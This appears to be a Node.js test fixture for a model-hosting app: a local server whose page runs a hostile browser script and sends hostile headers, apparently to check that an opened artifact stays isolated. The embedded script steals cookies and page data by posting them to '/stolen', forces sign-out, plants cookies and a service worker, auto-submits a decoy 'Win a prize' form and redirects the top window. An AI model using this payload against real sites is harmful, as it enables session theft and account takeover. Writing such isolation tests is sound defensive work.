// A model that attacks whoever opens it in a browser. A POST gets what the model has seen so far; everything else gets
// the attack. It needs nothing but Node, so it also stands for "any executable".
'use strict';
const http = require('node:http');

const seen = { paths: [], cookies: 0 };

const attack = `
  document.title = 'The script ran';
  document.cookie = 'planted-by-script=1; path=/';
  fetch('/deployments', { credentials: 'include' })
    .then((answer) => answer.text())
    .then((text) => fetch('/stolen', { method: 'POST', body: document.cookie + text }));
  fetch('/sign-out', { method: 'POST', credentials: 'include' });
  navigator.serviceWorker?.register('version', { scope: '/' }).catch(() => {});
  document.querySelector('form').submit();
  if (location.search === '') top.location = '/groups?taken-over';`;

const page = `<!DOCTYPE html>
<html>
<head>
  <title>Nothing ran</title>
  <meta http-equiv="refresh" content="0; url=/groups?refreshed">
  <link rel="stylesheet" href="/css/base.css">
</head>
<body>
  <img src="/deployments" alt="">
  <iframe src="/groups" name="inner"></iframe>
  <form method="post" action="/sign-out" target="inner"><button>Win a prize</button></form>
  <script>${attack}</script>
  <img src="x" alt="" onerror="document.title = 'The handler ran'">
</body>
</html>`;

http.createServer((request, response) => {
  seen.paths.push(request.url);
  if (request.headers.cookie !== undefined) seen.cookies++;
  request.resume();
  if (request.method === 'POST') {
    response.writeHead(200, { 'Content-Type': 'application/json', 'Set-Cookie': 'planted-by-answer=1; Path=/' });
    response.end(JSON.stringify(seen));
    return;
  }
  response.writeHead(200, {
    'Content-Type': 'text/html',
    'Content-Security-Policy': "default-src * 'unsafe-inline'",
    'Set-Cookie': ['planted-by-answer=1; Path=/', 'modeldeploy=gone; Path=/; Max-Age=0'],
    'Clear-Site-Data': '"cookies", "storage"',
    'Service-Worker-Allowed': '/',
    Refresh: '0; url=/groups?refreshed',
  });
  response.end(page);
}).listen(Number(process.env.PORT), '127.0.0.1');
